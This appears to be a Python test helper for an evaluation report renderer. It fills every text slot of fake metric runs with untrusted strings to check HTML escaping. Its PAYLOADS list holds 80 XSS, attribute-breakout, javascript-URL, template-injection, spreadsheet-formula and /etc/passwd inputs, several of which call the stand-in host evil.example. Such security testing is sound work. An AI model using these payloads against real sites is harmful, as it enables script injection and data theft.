"""What a stranger may write, and small runs of every metric in which it can be put into every text that a page shows."""

from dataclasses import fields, is_dataclass, replace
from functools import partial
from unittest import mock

import temporal_kit
from report_kit import FakeEncoder, graph, make_run, pictures

from sgeval import alignment, situation, temporal
from sgeval.phrases import canonical
from sgeval.report import ranking, render_ranking, render_report
from sgeval.runs import read_run, write_run

SLOT = "§"
"""Stands in the runs below wherever a stranger's text may stand."""
HOST = "evil.example"

PAYLOADS = (
    # elements that run something, or ask for something
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x></script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=//evil.example/p.png>",
    "<img srcset='//evil.example/p.png 1x'>",
    "<image href=//evil.example/p.png onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button autofocus onfocus=alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=//evil.example/v.mp4 autoplay onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/p.png)}</style>",
    "<div style=background:url(//evil.example/p.png)>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<plaintext>",
    "<!--<img src=x onerror=alert(1)>-->",
    # out of the element or the attribute that holds the text
    "</style><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</bdi></th></tr></table><img src=x onerror=alert(1)>",
    "</text></svg><script>alert(1)</script>",
    "-->--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    '"onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" style="background:url(//evil.example/p.png)',
    '`"onclick=alert(1)',
    '\\" onload=\\"alert(1)',
    '");alert(1);//',
    "</script><script>alert(1)</script>",
    # already escaped, once or twice
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;b&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/?q=1",
    "\\\\evil.example\\x",
    # templates
    "{{ 7*7 }}{% raw %}",
    "{% include 'report.css' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{ config.__class__.__mro__ }}",
    # other readers of the same text
    '=HYPERLINK("//evil.example")',
    "[x](javascript:alert(1)) ![](//evil.example/p.png)",
    "\\input{/etc/passwd}$\\cmd",
    "[red]x[/red][link=file:///etc]y[/link]",
    # what cannot be seen
    "a\u202egnp.exe",
    "\u2066<b>\u2069\u200f",
    "\x1b[31mred\x1b]8;;//evil.example\x07\x00",
    "\u200b<img\u200b src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "long " * 60 + "<b>",
)

assert len(PAYLOADS) == len(set(PAYLOADS)) == 80


def filled(value, text):
    """The value with `text` for the mark in every text of it, keys too."""
    if isinstance(value, str):
        return value.replace(SLOT, text)
    if isinstance(value, dict):
        return {filled(key, text): filled(entry, text) for key, entry in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(filled(entry, text) for entry in value)
    if is_dataclass(value) and not isinstance(value, type):
        made = {field.name: filled(getattr(value, field.name), text) for field in fields(value)}
        return replace(value, **made | ({"group": canonical(made["group"])} if "group" in made else {}))
    return value


def slotted(run):
    """The run with the mark in the texts that stand beside its rows."""
    result = run.result | {f"n_{SLOT}": 2, "signature": f"{run.result['signature']}|{SLOT}part:{SLOT}value"}
    inputs = {
        f"{SLOT}role": {"file": f"{SLOT}file", "sha256": f"{SLOT}digest"},
        f"{SLOT}several": {f"{SLOT}kind": f"{SLOT}name"},
        "images": run.inputs.get("images"),
    }
    return replace(run, name=f"{SLOT}run", result=result, inputs=inputs, versions={f"{SLOT}package": f"{SLOT}version"})


def told(run, **given):
    """The run with the mark in the reasons of its relations that were left out."""
    items = tuple(replace(item, reason=f"{SLOT}reason") if item.status != "scored" else item for item in run.rows.items)
    return replace(run, rows=replace(run.rows, items=items, **given))


def relclip_runs(folder):
    """Two runs of RelCLIPScore: cards, left out relations, references, a picture whose file has gone."""
    folder.mkdir()
    ends = tuple(f"{SLOT}{label}" for label in ("dog", "cup", "box"))
    shots = pictures(folder / "pictures", "a", "b")
    runs = []
    for name, (subject, obj) in (("one", (0, 1)), ("two", (1, 0))):
        said = [graph(at, [(subject, obj, f"{SLOT}left of"), (1, 1, f"{SLOT}on")], ends) for at in "ab"]
        gold = [graph(at, [(0, 1, f"{SLOT}left of"), (1, 0, f"{SLOT}right of")], ends) for at in "ab"]
        given = {"images": shots, "encoder": FakeEncoder(name="demo"), "normalisation": "none"}
        run = make_run(folder, name, said, gold, template="a {subject} {predicate} {object}", **given)
        runs.append(slotted(told(strange_ids(run))))
    return runs


def strange_ids(run):
    """The run with strange names of pictures, and of the file of the last one."""
    images = tuple(
        replace(row, image_id=f"{SLOT}{row.image_id}", file=f"{SLOT}{row.file}" if row.image_id == "b" else row.file)
        for row in run.rows.images
    )
    items = tuple(replace(item, image_id=f"{SLOT}{item.image_id}") for item in run.rows.items)
    return replace(run, rows=replace(run.rows, images=images, items=items))


def theta_run(folder):
    """A run of θ: confusions, cards, slices, a heat map."""
    ends = tuple(f"{SLOT}{label}" for label in ("dog", "cup", "box"))
    words = [f"{SLOT}{word}" for word in ("left of", "on", "near")]
    gold = [graph(at, [(0, 1, word), (1, 0, words[0]), (1, 1, word)], ends) for at, word in zip("ab", words)]
    gold.append(graph("c", [(0, 1, words[2])], ends))
    folder.mkdir()
    shots = pictures(folder / "pictures", "a", "b", "c")
    cosines = {f"{ends[0]} {words[0]} {ends[1]}": 0.2, f"{ends[0]} {words[1]} {ends[1]}": 0.9}
    options = alignment.Options(normalisation="none", bootstrap=20)
    scoring = alignment.score_annotations(gold, images=shots, model=FakeEncoder(cosines), options=options)
    write_run(folder / "theta", "x", scoring, {"images": str(shots)})
    return slotted(told(strange_ids(read_run(folder / "theta"))))


def role_runs(folder):
    """Two runs of role values: wrong values, wrong verbs, unknown frames."""

    def frame(verb, value, at=0):
        roles = [{"role": f"{SLOT}tool", "value": f"{SLOT}{value}"}, {"role": f"{SLOT}place", "value": f"{SLOT}desk"}]
        ends = {"subject_id": f"{SLOT}1", "object_id": f"{SLOT}2"}
        return {"frame_id": f"{SLOT}f{at}", "kind": "verb", "verb": f"{SLOT}{verb}", "roles": roles} | ends

    gold = [frame("hold", "pen", at) for at in range(3)]
    runs = []
    for name, verb in (("one", "hold"), ("two", "wipe")):
        said = [frame(verb, "cup"), frame("hold", "pen", 1), frame("hold", "pen", 9)]
        scoring = situation.score_rows(said, gold, situation.Options(missing="zero", on_invalid="skip"))
        write_run(folder / name, name, scoring, {})
        runs.append(slotted(told(read_run(folder / name))))
    return runs


def temporal_runs(folder):
    """Two runs of SVG2 temporal accuracy under two judges: verdicts, confusions, bars, what was mended."""
    labels = [f"{SLOT}{word}" for word in ("dog", "ball", "man")]

    def video(at, words, predicate):
        rows = [
            temporal_kit.relation(0, f"{SLOT}{predicate}", 1, (0, 4)),
            temporal_kit.relation(2, f"{SLOT}on", 1, (1, 2)),
        ]
        for row in rows:
            row["type"] = f"{SLOT}type"
        return temporal_kit.graph(f"{SLOT}v{at}", words, rows, {0: [f"{SLOT}brown"]})

    gold = [video(at, labels, "chasing") for at in range(3)]
    said = [video(at, [f"{label}s" for label in labels], "following") for at in range(2)]
    runs = []
    for name, category in (("one", "synonym"), ("two", None)):
        judge = temporal_kit.judge_of({}, default=category, name=f"{SLOT}judge {name}")
        options = temporal.Options(missing="zero", max_unjudged=1, bootstrap=20)
        write_run(folder / name, name, temporal.score(said, gold, judge=judge, options=options), {})
        run = read_run(folder / name)
        matches = tuple(replace(row, reason=row.reason and f"{SLOT}{row.reason}") for row in run.rows.matches)
        videos = tuple(replace(row, repairs=(f"{SLOT}repair",), n_lost=1) for row in run.rows.videos)
        runs.append(slotted(replace(run, rows=replace(run.rows, matches=matches, videos=videos))))
    return runs


class Pages:
    """The pages of every kind with a text in all slots, written into a folder."""

    def __init__(self, folder):
        self.folder = folder
        relclip, roles, videos = relclip_runs(folder / "r"), role_runs(folder / "s"), temporal_runs(folder / "v")
        self.singles = {
            "relclip": relclip[0],
            "theta": theta_run(folder / "t"),
            "roles": roles[0],
            "temporal": videos[1],
        }
        self.rankings = {"ranking": relclip, "role ranking": roles, "side by side": videos}
        self.kinds = (*self.singles, *self.rankings)

    def write(self, kind, text, out=None):
        """The page of this kind."""
        out = out or self.folder / "page.html"
        if kind in self.singles:
            return render_report(filled(self.singles[kind], text), out)
        runs = [replace(filled(run, text), name=f"{text}{at}") for at, run in enumerate(self.rankings[kind])]
        with mock.patch.object(
            ranking, "compare", partial(ranking.compare, replicates=20, flips=20)
        ):  # many wait for it
            return render_ranking(runs, out, links={run.name: text for run in runs})
